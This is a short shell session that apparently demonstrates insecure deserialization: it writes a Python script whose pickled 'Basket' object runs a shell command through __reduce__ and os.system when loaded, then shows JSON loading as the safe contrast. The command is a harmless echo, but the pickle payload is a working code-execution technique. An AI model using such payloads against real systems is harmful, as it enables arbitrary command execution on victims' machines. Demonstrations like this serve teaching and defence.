# needs: python3
cat >attack.py <<'PY'
import os, pickle
class Basket:
    def __reduce__(self):
        return os.system, ("echo here could be any command >ran",)
open("basket", "wb").write(pickle.dumps(Basket()))
PY
python3 attack.py
printf '{"part": 2041, "quantity": 2}' >basket.json
# session
python3 -c 'import pickle; basket = pickle.load(open("basket", "rb"))'; cat ran
python3 -c 'import json; print(json.load(open("basket.json")))'
python3 -c 'import json; print(json.load(open("basket", "rb")))' 2>&1 | tail -1
